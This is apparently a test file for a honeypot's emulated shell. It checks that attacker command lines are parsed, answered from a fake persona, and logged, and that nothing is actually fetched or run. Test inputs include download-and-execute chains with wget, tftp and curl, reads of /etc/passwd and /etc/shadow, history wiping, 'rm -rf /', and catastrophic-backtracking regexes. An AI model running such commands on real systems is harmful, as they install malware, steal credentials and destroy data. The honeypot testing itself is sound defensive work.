// The emulated shell on its own: parsing, persona-consistent output, the per-session overlay,
// recording, and every bound (output, steps, filesystem, line length, nesting), driven through a
// real Terminal where line editing matters. Nothing here is run for real: a local HTTP server
// checks that `wget` fetched nothing.
import { test } from 'node:test';
import assert from 'node:assert/strict';
import { createServer } from 'node:http';
import type { AddressInfo } from 'node:net';
import { personaFacts } from '../../src/deckies/personas/facts.ts';
import { parse, ParseError } from '../../src/deckies/shell/parse.ts';
import { createMachine, openShell, type Machine } from '../../src/deckies/shell/machine.ts';
import { Terminal } from '../../src/deckies/shell/terminal.ts';
import { Capture, type ShellHost, type ShellLimits } from '../../src/deckies/shell/types.ts';
import type { Persona } from '../../src/deckies/service.ts';
import type { Shell } from '../../src/deckies/shell/shell.ts';

interface Recorded {
  event: string;
  fields: Record<string, unknown>;
  secret?: string;
}

function machineFor(persona: Partial<Persona> = {}, name = 'decky-a'): Machine {
  const p: Persona = { hostname: 'SRV-ALPHA-17', archetype: 'linux-server', distro: 'debian', osFamily: 'linux', ...persona };
  return createMachine({ name, ip: '10.20.30.40', persona: p }, personaFacts(p), { user: 'ubuntu' });
}

function shellOn(machine: Machine, opts: { user?: string; mode?: 'shell' | 'exec'; limits?: Partial<ShellLimits>; passwords?: Record<string, string> } = {}) {
  const events: Recorded[] = [];
  const abort = new AbortController();
  let terminal: Terminal | undefined;
  const host: ShellHost = {
    record: (event, fields, secret) => events.push({ event, fields: { ...fields }, ...(secret !== undefined ? { secret } : {}) }),
    readSecret: (prompt) => terminal?.readSecret(prompt) ?? Promise.resolve(null),
    checkPassword: (user, password) => (opts.passwords ?? { root: 'admin', ubuntu: 'admin' })[user] === password,
    signal: abort.signal,
    mode: opts.mode ?? 'shell',
    tty: opts.mode === 'exec' ? '?' : 'pts/0',
    clientIp: '203.0.113.9',
    clientPort: 50022,
    serverPort: 22,
    loginTime: Date.now(),
  };
  const user = machine.profile.users.find((u) => u.name === (opts.user ?? 'root'))!;
  const shell = openShell(machine, user, host, opts.limits);
  const run = async (line: string): Promise<{ out: string; err: string; status: number }> => {
    const out = new Capture(1 << 20);
    const err = new Capture(1 << 20);
    const status = await shell.runLine(line, out, err);
    return { out: out.text, err: err.text, status };
  };
  return { shell, events, run, abort, setTerminal: (t: Terminal) => { terminal = t; } };
}

test('the parser handles quoting, operators, substitutions and reports syntax errors like bash', () => {
  const list = parse(`echo "a b" 'c d' e\\ f $'x\\ty'; false && echo no || echo yes | wc -l &`);
  assert.equal(list.length, 2);
  const echo = list[0]!.first.commands[0]!;
  assert.equal(echo.type, 'simple');
  if (echo.type === 'simple') {
    assert.deepEqual(echo.words.map((w) => w.map((p) => (p.t === 'lit' ? p.v : '?')).join('')), ['echo', 'a b', 'c d', 'e f', 'x\ty']);
  }
  assert.deepEqual(list[1]!.rest.map((r) => r.op), ['&&', '||']);
  assert.equal(list[1]!.rest[1]!.pipeline.commands.length, 2);
  assert.equal(list[1]!.background, true);

  const sub = parse('echo $(uname -$(echo r)) `id` ${HOME:-x} $((1+2))')[0]!.first.commands[0]!;
  assert.ok(sub.type === 'simple' && sub.words.slice(1).every((w) => w[0]!.t !== 'lit'));

  assert.throws(() => parse('echo "unterminated'), (e: Error) => e instanceof ParseError && /matching `"'/.test(e.message));
  assert.throws(() => parse('ls ;; ls'), (e: Error) => e instanceof ParseError && /unexpected token `;;'/.test(e.message));
  assert.throws(() => parse('| ls'), /unexpected token `\|'/);
  assert.throws(() => parse('('.repeat(40) + 'ls' + ')'.repeat(40)), /nesting too deep/);
});

test('a typical bot line is recorded as typed, answered from the persona, and wget fetches nothing', async (t) => {
  let requests = 0;
  const http = createServer((_req, res) => { requests++; res.end('#!/bin/sh\necho pwned\n'); });
  await new Promise<void>((r) => http.listen(0, '127.0.0.1', r));
  t.after(() => http.close());
  const port = (http.address() as AddressInfo).port;

  const m = machineFor();
  const facts = personaFacts({ hostname: 'SRV-ALPHA-17', archetype: 'linux-server', distro: 'debian', osFamily: 'linux' });
  const s = shellOn(m);
  const line = `uname -a; cat /etc/passwd; wget http://127.0.0.1:${port}/x.sh; chmod +x x.sh; ./x.sh; history -c`;
  const r = await s.run(line);

  assert.equal(r.out.split('\n')[0], facts.unameA);
  assert.match(r.out, /^root:x:0:0:root:\/root:\/bin\/bash$/m);
  assert.match(r.out, /^ubuntu:x:1000:1000:ubuntu,,,:\/home\/ubuntu:\/bin\/bash$/m);
  assert.match(r.err, new RegExp(`Connecting to 127\\.0\\.0\\.1:${port}\\.\\.\\. failed: Connection refused\\.`));
  assert.match(r.err, /chmod: cannot access 'x\.sh': No such file or directory/);
  assert.match(r.err, /-bash: \.\/x\.sh: No such file or directory/);
  assert.equal(requests, 0, 'the decoy must never fetch anything');

  const commands = s.events.filter((e) => e.event === 'command');
  assert.deepEqual(commands.map((e) => e.fields), [{ command: line, cwd: '/root', user: 'root', mode: 'shell', line_truncated: undefined }]);
  const download = s.events.find((e) => e.event === 'download');
  assert.equal(download?.fields.url, `http://127.0.0.1:${port}/x.sh`);
  assert.equal(download?.fields.tool, 'wget');
  assert.deepEqual(s.shell.history, [], 'history -c cleared the history');
  assert.equal((await s.run('history')).out, '    1  history\n');
});

test('every persona answers consistently: uname, /proc/version, os-release, hostname, prompt', async () => {
  const personas: Partial<Persona>[] = [
    { distro: 'debian' }, { distro: 'ubuntu22' }, { distro: 'rocky9' }, { distro: 'alpine' }, { distro: 'kali' },
    { distro: 'alpine', osFamily: 'embedded', archetype: 'iot-device' },
  ];
  for (const persona of personas) {
    const p: Persona = { hostname: 'web07.localdomain', archetype: 'linux-server', distro: 'debian', osFamily: 'linux', ...persona };
    const facts = personaFacts(p);
    const m = createMachine({ name: 'd', ip: '10.1.2.3', persona: p }, facts, { user: 'ubuntu' });
    const s = shellOn(m);
    const label = `${p.distro}/${p.osFamily}`;
    assert.equal((await s.run('uname -r')).out, facts.kernelRelease + '\n', label);
    assert.equal((await s.run('uname -a')).out, facts.unameA + '\n', label);
    assert.equal((await s.run('uname -m')).out, facts.machine + '\n', label);
    assert.ok((await s.run('cat /proc/version')).out.includes(`Linux version ${facts.kernelRelease} `), label);
    assert.equal((await s.run('cat /etc/os-release')).out, facts.osRelease, label);
    assert.equal((await s.run('hostname')).out, 'web07.localdomain\n', label);
    assert.match((await s.run('ip a')).out, /inet 10\.1\.2\.3\/24/, label);
    assert.match(s.shell.prompt(), /web07/, label);
    if (facts.busybox) {
      assert.equal((await s.run('busybox MIRAI')).err, 'MIRAI: applet not found\n', label);
      assert.equal((await s.run('nosuchcmd')).err, '-sh: nosuchcmd: not found\n', label);
    } else if (p.distro === 'alpine') {
      assert.equal((await s.run('nosuchcmd')).err, '-ash: nosuchcmd: not found\n', label);
    } else if (p.distro === 'kali') {
      assert.equal((await s.run('nosuchcmd')).err, 'zsh: command not found: nosuchcmd\n', label);
    } else {
      assert.equal((await s.run('nosuchcmd')).err, '-bash: nosuchcmd: command not found\n', label);
    }
  }
});

test('each session writes to its own overlay; the shared image never changes', async () => {
  const m = machineFor();
  const a = shellOn(m);
  const b = shellOn(m);
  await a.run('cd /tmp && echo secret > note.txt && mkdir -p d/e && rm -rf /etc/hostname');
  assert.equal((await a.run('cat /tmp/note.txt')).out, 'secret\n');
  assert.equal((await a.run('ls /tmp/d')).out, 'e\n');
  assert.match((await a.run('cat /etc/hostname')).err, /No such file or directory/);
  assert.match((await b.run('cat /tmp/note.txt')).err, /cat: \/tmp\/note\.txt: No such file or directory/);
  assert.equal((await b.run('cat /etc/hostname')).out, 'SRV-ALPHA-17\n');
  assert.equal((await shellOn(m).run('ls /tmp')).out, '');
});

test('scripts the attacker writes are interpreted by the emulated shell, not run', async () => {
  const s = shellOn(machineFor());
  const r = await s.run(`cd /tmp; echo 'echo from-script; id -un' > s.sh; sh s.sh; chmod +x s.sh; ./s.sh; printf '\\x7fELF\\x02' > bin; chmod 755 bin; ./bin`);
  assert.equal(r.out, 'from-script\nroot\nfrom-script\nroot\n');
  assert.match(r.err, /\.\/bin: cannot execute binary file: Exec format error/);
  assert.equal((await s.run('for i in 1 2 3; do echo n$i; done | tail -n 1; echo $((6*7))')).out, 'n3\n42\n');
  assert.equal((await s.run('X=1; [ "$X" = 1 ] && echo yes || echo no; if [ -d /etc ]; then echo dir; fi')).out, 'yes\ndir\n');
  assert.equal((await s.run("cat /proc/cpuinfo | grep 'model name' | wc -l")).out, `${m2cores(s.shell)}\n`);
  assert.equal((await s.run('ls /etc/*-release | cat')).out, '/etc/os-release\n');
  assert.equal((await s.run('echo /etc/host*')).out, '/etc/hostname /etc/hosts\n');
});

function m2cores(shell: Shell): number {
  return shell.profile.cores;
}

test('a non-root login sees a non-root system; sudo and su prompt, check and record the password', async () => {
  const m = machineFor();
  const s = shellOn(m, { user: 'ubuntu' });
  const screen: string[] = [];
  let closed = false;
  const term = new Terminal(s.shell, { out: (x) => screen.push(x), err: (x) => screen.push(x), close: () => { closed = true; } }, { interactive: true });
  s.setTerminal(term);
  term.start();
  assert.match(screen.join(''), /ubuntu@SRV-ALPHA-17:~\$ $/);
  const waitFor = async (re: RegExp): Promise<void> => {
    const deadline = Date.now() + 3000;
    while (!re.test(screen.join(''))) {
      if (Date.now() > deadline) throw new Error(`screen never matched ${re}: ${JSON.stringify(screen.join(''))}`);
      await new Promise((r) => setTimeout(r, 5));
    }
  };
  term.feed('cat /etc/shadow; touch /etc/x\r');
  await waitFor(/Permission denied[\s\S]*Permission denied[\s\S]*\$ $/);
  term.feed('sudo id\r');
  await waitFor(/\[sudo\] password for ubuntu: $/);
  term.feed('wrong\r');
  await waitFor(/Sorry, try again\./);
  screen.length = 0;
  term.feed('sudo -i id\r');
  await waitFor(/password for ubuntu: $/);
  term.feed('admin\r');
  await waitFor(/uid=0\(root\)/);
  assert.ok(!screen.join('').includes('admin'), 'the password is not echoed');
  const sudo = s.events.filter((e) => e.event === 'auth_attempt');
  assert.deepEqual(sudo.map((e) => [e.fields.auth_method, e.fields.username, e.fields.success, e.secret]), [['sudo', 'ubuntu', false, 'wrong'], ['sudo', 'ubuntu', true, 'admin']]);
  assert.equal(s.events.filter((e) => e.event === 'command').length, 3, 'passwords are not recorded as commands');
  term.feed('\x04');
  await waitFor(/logout\r\n$/);
  assert.equal(closed, true);
});

test('the line editor: echo, backspace, Ctrl-C, Ctrl-U, arrow-key history, CR LF output', async () => {
  const s = shellOn(machineFor());
  let screen = '';
  const term = new Terminal(s.shell, { out: (x) => { screen += x; }, err: (x) => { screen += x; }, close: () => undefined }, { interactive: true });
  term.start();
  term.feed('echo helo\x7flo\r');
  await new Promise((r) => setTimeout(r, 20));
  assert.match(screen, /echo helo\x08 \x08lo\r\nhello\r\nroot@/);
  screen = '';
  term.feed('rm -rf /\x03');
  assert.equal(screen, 'rm -rf /^C\r\n' + s.shell.prompt());
  screen = '';
  term.feed('garbage\x15\x1b[A\r');
  await new Promise((r) => setTimeout(r, 20));
  assert.match(screen, /garbage(\x08 \x08){7}echo hello\r\nhello\r\n/, 'Ctrl-U erased the line, up-arrow recalled the previous command');
  assert.equal(s.events.filter((e) => e.event === 'command').map((e) => e.fields.command).join('|'), 'echo hello|echo hello');
});

test('bounds: output, loops, nesting, overlay size, line length and commands per session', async () => {
  const m = machineFor();
  const s = shellOn(m, { limits: { maxOutput: 4096, maxSteps: 200, maxFsBytes: 10_000, maxCommands: 6, maxLineLength: 400 } });
  const yes = await s.run('yes');
  assert.equal(yes.out.length, 4096, 'output capped per line');
  const t0 = Date.now();
  const loop = await s.run('while true; do echo x; done');
  assert.ok(loop.out.length <= 4096 && Date.now() - t0 < 2000, 'an endless loop stops at the step budget');
  assert.equal((await s.run('echo $(echo $(echo $(echo $(echo $(echo deep)))))')).out, '\n', 'substitution depth is capped');
  const fill = await s.run('cd /tmp; for i in 1 2 3 4 5 6 7 8 9 10 11 12; do echo 01234567890123456789012345678901234567890123456789012345678901234567890123456789012345678 >> big; cat big big big big >> big2; done');
  assert.match(fill.err, /No space left on device/);
  const long = await s.run('echo ' + 'A'.repeat(500));
  assert.equal(long.out, 'A'.repeat(395) + '\n');
  const rec = s.events.filter((e) => e.event === 'command').at(-1)!;
  assert.equal(rec.fields.line_truncated, true);
  assert.equal(String(rec.fields.command).length, 400);
  assert.equal((await s.run('echo sixth')).out, 'sixth\n');
  assert.equal((await s.run('echo seventh')).out, '', 'a line past maxCommands is recorded but not run');
  assert.equal(s.shell.exited, true, 'the session ends after maxCommands lines');
});

test('hostile patterns cannot stall grep, sed, awk or find', async () => {
  const s = shellOn(machineFor());
  await s.run(`cd /tmp; printf '%s' ${'a'.repeat(3000)} > f`);
  const t0 = Date.now();
  await s.run(`grep -E '(a*)*(a*)*(a*)*b' f; grep 'a*a*a*a*a*a*a*a*a*a*b' f; sed 's/a*a*a*a*b/x/' f; awk '/a*a*a*a*a*b/ {print}' f; find / -name '*a*a*a*a*a*a*b'`);
  assert.ok(Date.now() - t0 < 1500, `took ${Date.now() - t0} ms`);
  assert.equal((await s.run("printf 'one\\ntwo\\nthree\\n' | grep -c o")).out, '2\n');
  assert.equal((await s.run("echo 'a b c' | awk '{print $3,$1}'")).out, 'c a\n');
  assert.equal((await s.run("echo hello | sed 's/l/L/g'")).out, 'heLLo\n');
});

test('fetch tools the persona lacks still record what the attacker tried to download', async () => {
  const s = shellOn(machineFor());
  const r = await s.run('cd /tmp; tftp -g -r mips 198.51.100.9; sh mips');
  assert.equal(r.err, '-bash: tftp: command not found\nsh: 0: cannot open mips: No such file\n');
  const dl = s.events.find((e) => e.event === 'download');
  assert.deepEqual([dl?.fields.url, dl?.fields.tool, dl?.fields.cwd], ['tftp://198.51.100.9/mips', 'tftp (not installed)', '/tmp']);
  const busybox = shellOn(machineFor({ distro: 'alpine', osFamily: 'embedded', archetype: 'iot-device' }));
  await busybox.run('cd /tmp; tftp -g -r arm7 198.51.100.9; curl -O http://198.51.100.9/arm7');
  assert.deepEqual(busybox.events.filter((e) => e.event === 'download').map((e) => [e.fields.url, e.fields.tool]),
    [['tftp://198.51.100.9/arm7', 'tftp'], ['http://198.51.100.9/arm7', 'curl (not installed)']]);
});
